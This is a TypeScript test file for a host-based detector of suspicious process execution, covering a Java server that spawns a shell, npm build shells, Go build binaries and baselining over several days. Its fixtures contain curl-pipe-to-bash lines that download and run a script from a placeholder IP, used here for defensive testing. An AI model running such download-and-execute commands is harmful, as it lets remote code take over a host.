import { describe, expect, it } from 'vitest';
import { microsPerDay } from '../../../base/time.ts';
import type { VakthundEvent } from '../../../events/event.ts';
import { dayStart, event, findingsOf } from '../../../../tests/support/event-store.ts';
import { analytic } from './index.ts';

const shellOfJava = {
  event_action: 'exec',
  event_outcome: 'success',
  host_name: 'web01',
  process_pid: 900,
  process_name: 'sh',
  process_executable: '/bin/sh',
  process_parent_executable: '/usr/lib/jvm/java',
  process_parent_name: 'java',
  process_command_line: 'sh -c curl -s http://203.0.113.66:8888/i.sh | bash',
  user_name: 'shop',
} as const;

describe('suspicious execution', () => {
  it('tells a server program that starts a shell which downloads and runs', async () => {
    const [finding, ...others] = await findingsOf(analytic, [event('process', shellOfJava)]);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ detector: 'analytics/execution', severity: 'critical', count: 1 });
    expect(finding?.attack).toEqual(expect.arrayContaining(['T1190', 'T1059.004', 'T1105']));
    expect(finding?.entities).toEqual(expect.arrayContaining([{ kind: 'process', value: 'web01/900/sh' }]));
    expect(finding?.reasons.map((reason) => reason.what)).toEqual(
      expect.arrayContaining(['a server program started a shell', 'downloads and runs in one line', 'command']),
    );
  });

  it('lets build tools start shells, but not what downloads and runs', async () => {
    const shell = (parent: string, command: string) =>
      event('process', {
        ...shellOfJava,
        process_parent_executable: '/usr/bin/node',
        process_parent_name: 'node',
        process_parent_command_line: parent,
        process_command_line: command,
      });
    const build = 'sh -c tsc && vitest run';
    expect(await findingsOf(analytic, [shell('node --no-warnings /usr/bin/npm run test', build)])).toEqual([]);
    expect(await findingsOf(analytic, [shell('node /usr/lib/node_modules/npm/bin/npm-cli.js ci', build)])).toEqual([]);
    expect(await findingsOf(analytic, [shell('node /srv/shop/server.js npm', build)])).toMatchObject([
      { severity: 'high' },
    ]);
    const infected = shell('node /usr/bin/npm install left-pad', 'sh -c curl -s http://203.0.113.66/i.sh | bash');
    expect(await findingsOf(analytic, [infected])).toMatchObject([{ severity: 'high' }]);
  });

  it('weighs what packages do in a root of their own less, and nothing else there', async () => {
    const started = (program: string, root?: string) =>
      event('process', {
        ...shellOfJava,
        process_executable: program,
        process_parent_executable: '/tmp/root/usr/bin/dash',
        process_command_line: program,
        fields: root === undefined ? null : JSON.stringify({ root }),
      });
    const inRoot = ['/tmp/root/usr/bin/getent', '/tmp/root/usr/lib/apt/methods/http', '/tmp/root/sbin/ldconfig'];
    const quiet = await findingsOf(
      analytic,
      inRoot.map((program) => started(program, '/tmp/root')),
    );
    expect(quiet).toEqual([]);
    const loud = [
      started('/tmp/root/usr/bin/x'),
      started('/tmp/root/tmp/x', '/tmp/root'),
      started('/tmp/roo/bin/x', '/tmp/root'),
    ];
    expect(await findingsOf(analytic, loud)).toHaveLength(3);
    expect(await findingsOf(analytic, [started('/home/a/.b/root/usr/bin/id', '/home/a/.b/root')])).toEqual([]);
    expect(await findingsOf(analytic, [started('/srv/root/opt/.x/id', '/srv/root')])).toHaveLength(1);
  });

  it('weighs less what the same parent does on several days', async () => {
    const command = 'sh -c /opt/ci/step.sh';
    const days = [0, 1, 2, 3].map((day) =>
      event('process', { ...shellOfJava, process_command_line: command, time: dayStart + day * microsPerDay }),
    );
    const [once] = await findingsOf(analytic, days.slice(0, 1));
    const [usual] = await findingsOf(analytic, days, { min_score: 0 });
    expect(once?.severity).toBe('high');
    expect(usual?.severity).toBe('low');
    expect(await findingsOf(analytic, days)).toEqual([]);
  });

  it.each([
    ['/dev/shm/.a', 'runs from a temporary place'],
    ['/usr/lib/.x/d', 'runs from a hidden place'],
  ])('tells a program run from %s', async (path, what) => {
    const [finding] = await findingsOf(analytic, [
      event('process', { event_action: 'exec', host_name: 'a', process_executable: path, process_command_line: path }),
    ]);
    expect(finding?.reasons.map((reason) => reason.what)).toContain(what);
  });

  it('is quiet about what go built and runs, and about nothing else that runs beside it', async () => {
    const run = (program: string, parent: string): VakthundEvent =>
      event('process', {
        event_action: 'exec',
        host_name: 'a',
        process_executable: program,
        process_command_line: program,
        process_parent_executable: parent,
      });
    const built = '/tmp/go-build582400009/b001/exe/server';
    const others = [run(built, '/usr/bin/bash'), run('/tmp/go-build582400009/x', '/usr/bin/go')];
    expect(await findingsOf(analytic, [run(built, '/usr/lib/go-1.24/bin/go')])).toEqual([]);
    expect(await findingsOf(analytic, others)).toHaveLength(2);
  });

  it('leaves alone what failed, what is no start, and daily work', async () => {
    const events = [
      event('process', { ...shellOfJava, event_outcome: 'failure' }),
      event('process', { ...shellOfJava, event_action: 'exit' }),
      event('process', {
        event_action: 'exec',
        process_executable: '/usr/bin/ls',
        process_parent_executable: '/bin/bash',
        process_command_line: 'ls -l',
      }),
      event('process', { event_action: 'exec' }),
    ];
    expect(await findingsOf(analytic, events)).toEqual([]);
  });
});
